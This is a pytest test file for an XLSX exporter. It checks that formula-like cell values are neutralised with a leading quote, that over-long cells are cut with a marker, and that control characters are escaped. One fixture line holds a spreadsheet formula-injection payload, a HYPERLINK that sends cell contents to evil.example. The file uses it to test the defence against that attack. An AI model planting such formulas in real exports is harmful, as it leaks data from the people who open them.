"""XLSX exports carry no live formula, no silently cut text, and survive control characters."""

import pytest
from openpyxl import load_workbook

from marsad.plugins.export_xlsx import XLSXExporter

CELL_MAX = 32_767  # Excel's limit for one cell ("Excel specifications and limits")
LINK = '=HYPERLINK("http://evil.example/?leak="&A2,"click")'


@pytest.fixture
def sheet(tmp_path):
    def write(rows):
        out = tmp_path / "x.xlsx"
        XLSXExporter().write(list(rows[0]), rows, out)
        book = load_workbook(out)
        return book.active
    return write


def test_formula_cells_are_neutralised_and_numbers_kept(sheet):
    row = {"title": LINK, "notes": "@SUM(A1:A9)", "plus": "+1 more", "minus": "-cmd", "tab": "\tx", "cr": "\rx",
           "n": -5, "m": "-3.5", "f": 2.5, "empty": None, "place": "كفرنبل"}
    ws = sheet([row])
    cells = {ws.cell(1, i).value: ws.cell(2, i) for i in range(1, ws.max_column + 1)}
    assert all(c.data_type != "f" for c in cells.values())
    assert cells["title"].value == "'" + LINK and cells["notes"].value == "'@SUM(A1:A9)"
    assert cells["plus"].value == "'+1 more" and cells["minus"].value == "'-cmd"
    assert cells["tab"].value == "'\tx" and cells["cr"].value.startswith("'")
    assert cells["n"].value == -5 and cells["m"].value == "-3.5" and cells["f"].value == 2.5
    assert cells["empty"].value is None and cells["place"].value == "كفرنبل"


def test_a_cell_over_excels_limit_is_cut_with_a_visible_marker(sheet):
    long = "ش" * (CELL_MAX + 5000)
    value = sheet([{"notes": long}]).cell(2, 1).value
    assert len(value) <= CELL_MAX and value.startswith("ش" * 1000)
    kept = value.index(" […cut here")
    assert f"{len(long) - kept:,} more characters" in value


def test_control_characters_are_shown_escaped_not_a_crash(sheet):
    value = sheet([{"notes": "bell\x07 nul\x00 esc\x1b[31m tab\tnewline\n"}]).cell(2, 1).value
    assert value == "bell\\x07 nul\\x00 esc\\x1b[31m tab\tnewline\n"
